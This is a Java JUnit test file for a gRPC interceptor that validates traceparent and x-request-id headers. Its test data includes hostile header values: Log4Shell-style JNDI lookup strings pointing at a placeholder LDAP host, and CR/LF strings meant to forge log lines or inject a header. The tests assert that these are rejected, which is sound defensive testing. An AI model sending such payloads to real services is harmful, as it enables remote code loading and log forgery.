package io.github.grpcmiddleware.trace;

import static io.github.grpcmiddleware.trace.TraceServerInterceptorTest.X_TRACE_ID;
import static io.github.grpcmiddleware.trace.TraceServerInterceptorTest.request;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.grpcmiddleware.testing.GrpcServerExtension;
import io.github.grpcmiddleware.testing.LogCapture;
import io.grpc.Metadata;
import io.grpc.stub.MetadataUtils;
import io.grpc.testing.protobuf.SimpleServiceGrpc;
import java.util.Objects;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Valid, invalid and hostile trace headers: the right id, never a failed call or a forged log. */
class TraceHeadersTest {
  static final Metadata.Key<String> TRACEPARENT =
      Metadata.Key.of("traceparent", Metadata.ASCII_STRING_MARSHALLER);
  static final Metadata.Key<String> X_REQUEST_ID =
      Metadata.Key.of("x-request-id", Metadata.ASCII_STRING_MARSHALLER);
  static final String T = "4bf92f3577b34da6a3ce929d0e0e4736";
  static final String P = "00f067aa0ba902b7";
  static final String VALID = "00-" + T + "-" + P + "-01";

  @RegisterExtension
  static final GrpcServerExtension grpc =
      GrpcServerExtension.builder()
          .service(new TraceTestService())
          .interceptor(TraceIds.newServerInterceptor())
          .build();

  @RegisterExtension
  final LogCapture traceLog =
      LogCapture.forLogger("io.github.grpcmiddleware.trace").atLevel("DEBUG");

  static Stream<Arguments> traceparents() {
    return Stream.of(
        Arguments.of("version 00", VALID, T),
        Arguments.of("not sampled", "00-" + T + "-" + P + "-00", T),
        Arguments.of("unknown flag bits", "00-" + T + "-" + P + "-09", T),
        Arguments.of("higher version, 55 chars", "01-" + T + "-" + P + "-01", T),
        Arguments.of("higher version, more fields", "cc-" + T + "-" + P + "-01-what-next", T),
        Arguments.of("higher version, trailing dash", "fe-" + T + "-" + P + "-01-", T),
        Arguments.of("version ff", "ff-" + T + "-" + P + "-01", null),
        Arguments.of("uppercase trace id", "00-" + T.toUpperCase() + "-" + P + "-01", null),
        Arguments.of("uppercase parent id", "00-" + T + "-" + P.toUpperCase() + "-01", null),
        Arguments.of("uppercase flags", "00-" + T + "-" + P + "-0A", null),
        Arguments.of("uppercase version", "0A-" + T + "-" + P + "-01", null),
        Arguments.of("zero trace id", "00-" + "0".repeat(32) + "-" + P + "-01", null),
        Arguments.of("zero parent id", "00-" + T + "-" + "0".repeat(16) + "-01", null),
        Arguments.of("version 00 too long", VALID + "-", null),
        Arguments.of("version 00 too long, more fields", VALID + "-what-next", null),
        Arguments.of("too short", VALID.substring(0, 54), null),
        Arguments.of("higher version too short", "01-" + T + "-" + P + "-1", null),
        Arguments.of("higher version, no dash after flags", "01-" + T + "-" + P + "-01x", null),
        Arguments.of("non-hex trace id", "00-" + T.substring(0, 31) + "g-" + P + "-01", null),
        Arguments.of("non-hex version", "0g-" + T + "-" + P + "-01", null),
        Arguments.of("non-hex flags", "00-" + T + "-" + P + "-0z", null),
        Arguments.of("wrong delimiter", "00_" + T + "-" + P + "-01", null),
        Arguments.of("short trace id", "00-" + T.substring(1) + "-" + P + "-01x", null),
        Arguments.of("leading space", " " + VALID.substring(0, 54), null),
        Arguments.of("empty", "", null),
        Arguments.of("10 KB", "0".repeat(10 * 1024), null),
        Arguments.of("CR/LF", "00-" + T + "\r\n-" + P + "-01", null),
        Arguments.of("CR/LF after a valid value", VALID + "\r\nx-forged: 1", null),
        Arguments.of("non-ASCII", "00-" + T.substring(0, 31) + "é-" + P + "-01", null),
        Arguments.of("lookup syntax", "${jndi:ldap://x.example/a}-" + T + "-" + P, null));
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("traceparents")
  void traceparent(String name, String value, @Nullable String expected) {
    Metadata headers = new Metadata();
    headers.put(TRACEPARENT, value);
    String[] seen = call(headers);

    if (expected != null) {
      assertThat(seen[0]).isEqualTo(expected);
      assertThat(traceLog.events()).isEmpty();
    } else {
      assertThat(seen[0]).matches("[0-9a-f]{32}").isNotEqualTo(T);
      assertThat(traceLog.events())
          .singleElement()
          .satisfies(
              e -> {
                assertThat(e.level()).isEqualTo("DEBUG");
                assertThat(e.message()).doesNotContain("\r", "\n", T);
              });
    }
  }

  static Stream<Arguments> requestIds() {
    return Stream.of(
        Arguments.of("simple", "abc-123_X.y", true),
        Arguments.of("uuid", "0f8fad5b-d9cb-469f-a165-70867728950e", true),
        Arguments.of("64 characters", "a".repeat(64), true),
        Arguments.of("65 characters", "a".repeat(65), false),
        Arguments.of("empty", "", false),
        Arguments.of("10 KB", "r".repeat(10 * 1024), false),
        Arguments.of("CR/LF", "abc\r\n2026-01-01 INFO forged line", false),
        Arguments.of("LF", "abc\nforged", false),
        Arguments.of("tab", "abc\tdef", false),
        Arguments.of("space", "abc def", false),
        Arguments.of("non-ASCII", "réquest-1", false),
        Arguments.of("lookup syntax", "${jndi:ldap://x.example/a}", false),
        Arguments.of("valid trace id", T, true));
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("requestIds")
  void requestIdOnlyReachesItsOwnMdcKey(String name, String value, boolean kept) {
    Metadata headers = new Metadata();
    headers.put(X_REQUEST_ID, value);
    String[] seen = call(headers);

    assertThat(seen[0]).matches("[0-9a-f]{32}").isNotEqualTo(value);
    assertThat(seen[3]).isEqualTo(kept ? value : "null");
    assertThat(traceLog.events())
        .allSatisfy(
            e -> {
              assertThat(e.level()).isEqualTo("DEBUG");
              assertThat(e.message()).doesNotContain("\r", "\n", "${");
            });
  }

  @Test
  void repeatedHeadersCountOnlyWhenIdentical() {
    Metadata same = new Metadata();
    same.put(TRACEPARENT, VALID);
    same.put(TRACEPARENT, VALID);
    same.put(X_REQUEST_ID, "r-1");
    same.put(X_REQUEST_ID, "r-1");
    String[] seen = call(same);
    assertThat(seen[0]).isEqualTo(T);
    assertThat(seen[3]).isEqualTo("r-1");

    Metadata conflicting = new Metadata();
    conflicting.put(TRACEPARENT, VALID);
    conflicting.put(TRACEPARENT, "00-" + "1".repeat(32) + "-" + P + "-01");
    conflicting.put(X_REQUEST_ID, "r-1");
    conflicting.put(X_REQUEST_ID, "r-2");
    seen = call(conflicting);
    assertThat(seen[0]).matches("[0-9a-f]{32}").isNotEqualTo(T).isNotEqualTo("1".repeat(32));
    assertThat(seen[3]).isEqualTo("null");
  }

  @Test
  void noHeadersStartsADistinctTraceEachCall() {
    String first = call(new Metadata())[0];
    String second = call(new Metadata())[0];
    assertThat(first).matches("[0-9a-f]{32}");
    assertThat(second).matches("[0-9a-f]{32}").isNotEqualTo(first);
    assertThat(traceLog.events()).isEmpty();
  }

  /** Makes a unary call; returns what the handler saw, checking the echo and success. */
  private static String[] call(Metadata headers) {
    AtomicReference<Metadata> responseHeaders = new AtomicReference<>();
    AtomicReference<Metadata> trailers = new AtomicReference<>();
    String message =
        SimpleServiceGrpc.newBlockingStub(grpc.channel())
            .withInterceptors(
                MetadataUtils.newAttachHeadersInterceptor(headers),
                MetadataUtils.newCaptureMetadataInterceptor(responseHeaders, trailers))
            .unaryRpc(request("t"))
            .getResponseMessage();
    String[] seen = message.split(" ");
    assertThat(seen).hasSize(4);
    assertThat(seen[1]).as("TraceIds.current()").isEqualTo(seen[0]);
    assertThat(Objects.requireNonNull(responseHeaders.get()).get(X_TRACE_ID))
        .as("x-trace-id")
        .isEqualTo(seen[0]);
    return seen;
  }
}
